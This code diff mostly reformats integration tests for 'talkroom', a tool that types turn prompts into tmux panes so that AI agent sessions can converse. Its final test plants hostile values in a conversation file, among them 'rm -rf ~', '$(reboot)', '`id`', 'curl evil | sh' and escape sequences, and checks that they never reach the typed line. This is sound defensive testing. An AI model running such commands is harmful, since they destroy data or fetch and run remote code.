@@ -31,8 +31,7 @@ pytestmark = pytest.mark.tmux
 def watching(root: Root, host: str = "test-host", **kwargs: object) -> Iterator[list[WatchEvent]]:
     """An in-process watcher for the duration; yields the events it reported."""
     events: list[WatchEvent] = []
-    watcher = Watcher(root, host, interval=0.2, heartbeat=1.0, on_event=events.append,
-                      **kwargs)  # type: ignore[arg-type]
+    watcher = Watcher(root, host, interval=0.2, heartbeat=1.0, on_event=events.append, **kwargs)  # type: ignore[arg-type]
     watcher.start()
     try:
         yield events
@@ -64,21 +63,41 @@ def standin(server: TmuxServer, tmp_path: Path, name: str, **kwargs: object) -> 
     return pane, log
 
 
-def register(root: Root, server: TmuxServer, name: str, pane: str, agent_kind: str = "claude",
-             host: str = "test-host") -> None:
+def register(
+    root: Root,
+    server: TmuxServer,
+    name: str,
+    pane: str,
+    agent_kind: str = "claude",
+    host: str = "test-host",
+) -> None:
     registry.register(root, host, name, agent_kind, server.ref(pane))
 
 
 @pytest.mark.parametrize("poll", [False, True], ids=["events", "polling"])
 def test_the_exact_line_reaches_the_registered_pane_and_no_other(
-    talk: Talk, tmux_server: TmuxServer, tmp_path: Path, poll: bool,
+    talk: Talk,
+    tmux_server: TmuxServer,
+    tmp_path: Path,
+    poll: bool,
 ) -> None:
     pane_a, log_a = standin(tmux_server, tmp_path, "alpha")
     _, log_b = standin(tmux_server, tmp_path, "beta")  # not registered on purpose
     shell = tmux_server.pane()
     register(talk.root, tmux_server, "alpha", pane_a)
-    result = talk("open", "--topic", "t", "--as", "moderator", "--with", "alpha,beta",
-                  "--next", "alpha", "--body", "go")
+    result = talk(
+        "open",
+        "--topic",
+        "t",
+        "--as",
+        "moderator",
+        "--with",
+        "alpha,beta",
+        "--next",
+        "alpha",
+        "--body",
+        "go",
+    )
     conv = store.load(talk.root.conversation(result.first))
     expected = build_line(conv, "alpha", conv.path, talk.root.path)  # type: ignore[arg-type]
     with watching(talk.root, poll=poll) as events:
@@ -86,8 +105,9 @@ def test_the_exact_line_reaches_the_registered_pane_and_no_other(
         assert lines(log_a) == [expected]
         assert log_a.read_bytes() == expected.encode() + b"\n"  # the exact bytes
         # alpha replies (its next is beta, who is not registered): nothing is typed anywhere.
-        wait_for(lambda: store.load(talk.root.conversation(conv.id)).turns == 2, 15,
-                 what="alpha's reply")
+        wait_for(
+            lambda: store.load(talk.root.conversation(conv.id)).turns == 2, 15, what="alpha's reply"
+        )
         time.sleep(1.0)
     assert lines(log_a) == [expected] and lines(log_b) == []
     assert "# talkroom:" not in tmux_server.capture(shell)
@@ -100,7 +120,9 @@ def test_the_exact_line_reaches_the_registered_pane_and_no_other(
 
 
 def test_unsafe_panes_are_deferred_never_typed_and_busy_is_delivered_when_idle(
-    talk: Talk, tmux_server: TmuxServer, tmp_path: Path,
+    talk: Talk,
+    tmux_server: TmuxServer,
+    tmp_path: Path,
 ) -> None:
     busy_flag = tmp_path / "busy"
     busy_flag.touch()
@@ -109,15 +131,32 @@ def test_unsafe_panes_are_deferred_never_typed_and_busy_is_delivered_when_idle(
     copy, log_copy = standin(tmux_server, tmp_path, "copy")
     tmux_server.run("copy-mode", "-t", copy)
     shell = tmux_server.pane()
-    wait_for(lambda: tmux_server.command(shell) in ("bash", "sh", "dash", "zsh"), 5,
-             what="the shell in its pane")
+    wait_for(
+        lambda: tmux_server.command(shell) in ("bash", "sh", "dash", "zsh"),
+        5,
+        what="the shell in its pane",
+    )
     for name, pane in (("busy", busy), ("copy", copy), ("shell", shell)):
         register(talk.root, tmux_server, name, pane)
-    result = talk("open", "--topic", "t", "--as", "moderator", "--with", "busy,copy,shell",
-                  "--next", "all", "--body", "go")
+    result = talk(
+        "open",
+        "--topic",
+        "t",
+        "--as",
+        "moderator",
+        "--with",
+        "busy,copy,shell",
+        "--next",
+        "all",
+        "--body",
+        "go",
+    )
     with watching(talk.root):
-        wait_for(lambda: all(outcomes(talk.root, n) for n in ("busy", "copy", "shell")), 15,
-                 what="a deferral for each pane")
+        wait_for(
+            lambda: all(outcomes(talk.root, n) for n in ("busy", "copy", "shell")),
+            15,
+            what="a deferral for each pane",
+        )
         time.sleep(2.0)  # many looks later...
         assert outcomes(talk.root, "busy") == ["deferred:busy"]  # ...still recorded once
         assert outcomes(talk.root, "copy") == ["deferred:copy mode"]
@@ -132,7 +171,9 @@ def test_unsafe_panes_are_deferred_never_typed_and_busy_is_delivered_when_idle(
 
 
 def test_a_registration_on_a_restarted_server_is_refused(
-    talk: Talk, tmux_server: TmuxServer, tmp_path: Path,
+    talk: Talk,
+    tmux_server: TmuxServer,
+    tmp_path: Path,
 ) -> None:
     pane, _ = standin(tmux_server, tmp_path, "alpha")
     register(talk.root, tmux_server, "alpha", pane)
@@ -151,13 +192,28 @@ def test_a_registration_on_a_restarted_server_is_refused(
     assert lines(new_log) == []
 
 
-def watch_process(root: Root, *args: str, host: str = "test-host",
-                  env: dict[str, str] | None = None) -> subprocess.Popen[str]:
+def watch_process(
+    root: Root, *args: str, host: str = "test-host", env: dict[str, str] | None = None
+) -> subprocess.Popen[str]:
     """`talkroom --watch-only --json` as a real process."""
     return subprocess.Popen(
-        [sys.executable, "-m", "talkroom", "--root", str(root.path), "--host", host,
-         "--watch-only", "--json", "--interval", "0.2", *args],
-        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+        [
+            sys.executable,
+            "-m",
+            "talkroom",
+            "--root",
+            str(root.path),
+            "--host",
+            host,
+            "--watch-only",
+            "--json",
+            "--interval",
+            "0.2",
+            *args,
+        ],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
         env={**os.environ, "TALKROOM_HEARTBEAT_INTERVAL": "1", **(env or {})},
     )
 
@@ -170,18 +226,25 @@ def stop(proc: subprocess.Popen[str]) -> tuple[int, str, str]:
 
 
 def test_kill_9_between_intent_and_outcome_never_types_twice(
-    talk: Talk, tmux_server: TmuxServer, tmp_path: Path, isolated: Path,
+    talk: Talk,
+    tmux_server: TmuxServer,
+    tmp_path: Path,
+    isolated: Path,
 ) -> None:
     # A long submit delay holds the watcher between typing and the outcome.
     (isolated / "config.yaml").write_text("profiles:\n  claude:\n    submit_delay: 8\n")
     pane, log = standin(tmux_server, tmp_path, "alpha")
     register(talk.root, tmux_server, "alpha", pane)
-    conv_id = talk("open", "--topic", "t", "--as", "moderator", "--with", "alpha,beta",
-                   "--next", "alpha").first
+    conv_id = talk(
+        "open", "--topic", "t", "--as", "moderator", "--with", "alpha,beta", "--next", "alpha"
+    ).first
     cursor = talk.root.host_dir("test-host") / "cursor.yaml"
     first = watch_process(talk.root)
-    wait_for(lambda: cursor.exists() and "typing" in cursor.read_text(), 15,
-             what="the intent in cursor.yaml")
+    wait_for(
+        lambda: cursor.exists() and "typing" in cursor.read_text(),
+        15,
+        what="the intent in cursor.yaml",
+    )
     wait_for(lambda: "# talkroom: your turn" in tmux_server.capture(pane), 5, what="typing")
     first.kill()  # SIGKILL: no outcome is ever written
     first.communicate(timeout=10)
@@ -201,10 +264,12 @@ def test_kill_9_between_intent_and_outcome_never_types_twice(
 def test_a_second_watcher_refuses_and_names_the_first(talk: Talk) -> None:
     first = watch_process(talk.root)
     try:
-        wait_for(lambda: (talk.root.host_dir("test-host") / "watcher.yaml").exists(), 10,
-                 what="the first watcher's heartbeat")
-        second = run_talkroom("--root", str(talk.root.path), "--host", "test-host",
-                              "--watch-only")
+        wait_for(
+            lambda: (talk.root.host_dir("test-host") / "watcher.yaml").exists(),
+            10,
+            what="the first watcher's heartbeat",
+        )
+        second = run_talkroom("--root", str(talk.root.path), "--host", "test-host", "--watch-only")
         err = second.stderr.decode()
         assert second.returncode == 1 and err.count("\n") == 1
         assert f"pid {first.pid}" in err
@@ -216,21 +281,38 @@ def test_a_second_watcher_refuses_and_names_the_first(talk: Talk) -> None:
     assert [json.loads(line)["event"] for line in out.splitlines()][-1] == "stopped"
 
 
-def debate(talk: Talk, tmux_server: TmuxServer, tmp_path: Path, hosts: tuple[str, str],
-           budget: int = 6) -> str:
+def debate(
+    talk: Talk, tmux_server: TmuxServer, tmp_path: Path, hosts: tuple[str, str], budget: int = 6
+) -> str:
     """Two stand-ins, registered on `hosts`, with one headless watcher per host."""
     panes = {}
     for name, host in zip(("alpha", "beta"), hosts, strict=True):
         pane, _ = standin(tmux_server, tmp_path, name, think=0.1)
         register(talk.root, tmux_server, name, pane, host=host)
         panes[name] = pane
-    conv_id = talk("open", "--topic", "which queue", "--as", "moderator", "--with",
-                   "alpha,beta", "--next", "alpha", "--max-turns", str(budget),
-                   "--body", "Pick one.").first
+    conv_id = talk(
+        "open",
+        "--topic",
+        "which queue",
+        "--as",
+        "moderator",
+        "--with",
+        "alpha,beta",
+        "--next",
+        "alpha",
+        "--max-turns",
+        str(budget),
+        "--body",
+        "Pick one.",
+    ).first
     procs = [watch_process(talk.root, host=h) for h in sorted(set(hosts))]
     try:
-        wait_for(lambda: store.load(talk.root.conversation(conv_id)).next == ["moderator"],
-                 60, every=0.2, what="the debate to reach its budget")
+        wait_for(
+            lambda: store.load(talk.root.conversation(conv_id)).next == ["moderator"],
+            60,
+            every=0.2,
+            what="the debate to reach its budget",
+        )
     finally:
         results = [stop(p) for p in procs]
     assert all(code == 0 for code, _, _ in results), results
@@ -238,7 +320,9 @@ def debate(talk: Talk, tmux_server: TmuxServer, tmp_path: Path, hosts: tuple[str
 
 
 def test_two_agents_debate_to_the_budget_with_no_human(
-    talk: Talk, tmux_server: TmuxServer, tmp_path: Path,
+    talk: Talk,
+    tmux_server: TmuxServer,
+    tmp_path: Path,
 ) -> None:
     conv_id = debate(talk, tmux_server, tmp_path, ("test-host", "test-host"))
     conv = store.load(talk.root.conversation(conv_id))
@@ -248,7 +332,9 @@ def test_two_agents_debate_to_the_budget_with_no_human(
 
 
 def test_two_hosts_each_type_only_into_their_own_panes(
-    talk: Talk, tmux_server: TmuxServer, tmp_path: Path,
+    talk: Talk,
+    tmux_server: TmuxServer,
+    tmp_path: Path,
 ) -> None:
     conv_id = debate(talk, tmux_server, tmp_path, ("host-a", "host-b"))
     conv = store.load(talk.root.conversation(conv_id))
@@ -259,11 +345,20 @@ def test_two_hosts_each_type_only_into_their_own_panes(
 
 
 def test_register_inside_a_pane_and_list_sessions(
-    talk: Talk, tmux_server: TmuxServer, tmp_path: Path,
+    talk: Talk,
+    tmux_server: TmuxServer,
+    tmp_path: Path,
 ) -> None:
     pane, _ = standin(tmux_server, tmp_path, "alpha")
-    result = run_talkroom("--root", str(talk.root.path), "register", "Alpha", "--agent",
-                          "codex", env=tmux_server.pane_env(pane))
+    result = run_talkroom(
+        "--root",
+        str(talk.root.path),
+        "register",
+        "Alpha",
+        "--agent",
+        "codex",
+        env=tmux_server.pane_env(pane),
+    )
     assert result.returncode == 0, result.stderr
     session = registry.load_sessions(talk.root, "test-host")["alpha"]
     assert session.pane == tmux_server.ref(pane) and session.agent == "codex"
@@ -277,7 +372,9 @@ def test_register_inside_a_pane_and_list_sessions(
 
 
 def test_nudge_and_resume_deliver_again_pause_does_not(
-    talk: Talk, tmux_server: TmuxServer, tmp_path: Path,
+    talk: Talk,
+    tmux_server: TmuxServer,
+    tmp_path: Path,
 ) -> None:
     # A stand-in under another name logs what it gets and never replies.
     pane, log = standin(tmux_server, tmp_path, "listener")
@@ -297,21 +394,25 @@ def test_nudge_and_resume_deliver_again_pause_does_not(
 
 
 def test_hostile_text_in_a_file_never_reaches_the_typed_line(
-    talk: Talk, tmux_server: TmuxServer, tmp_path: Path,
+    talk: Talk,
+    tmux_server: TmuxServer,
+    tmp_path: Path,
 ) -> None:
     pane, log = standin(tmux_server, tmp_path, "listener")
     register(talk.root, tmux_server, "alpha", pane)
     talk.root.conversations.mkdir(parents=True)
     # A hand-written file: hostile topic, participants and body; next names alpha.
     talk.root.conversation("evil").write_bytes(
-        b"---\ntopic: \"\\e]0;x\\a; rm -rf ~\"\nparticipants: alpha, $(reboot), `id`\n"
+        b'---\ntopic: "\\e]0;x\\a; rm -rf ~"\nparticipants: alpha, $(reboot), `id`\n'
         b"next: alpha\n---\n\nOpening -- $(reboot) @ 2026-05-27 16:22\nTurn 1/9\n\n"
-        b"; curl evil | sh\n\x1b[2J\n\nNEXT: alpha\n")
+        b"; curl evil | sh\n\x1b[2J\n\nNEXT: alpha\n"
+    )
     with watching(talk.root):
         wait_for(lambda: lines(log), 15, what="the wake-up line")
     (line,) = lines(log)
     assert line.startswith("# talkroom: your turn in evil (turn 2/9): read ")
-    assert line.endswith("then run: talkroom reply evil --as alpha --next moderator --root "
-                         f"{talk.root.path}")
+    assert line.endswith(
+        f"then run: talkroom reply evil --as alpha --next moderator --root {talk.root.path}"
+    )
     for hostile in ("reboot", "rm -rf", "curl", "`id`", "\x1b"):
         assert hostile not in line
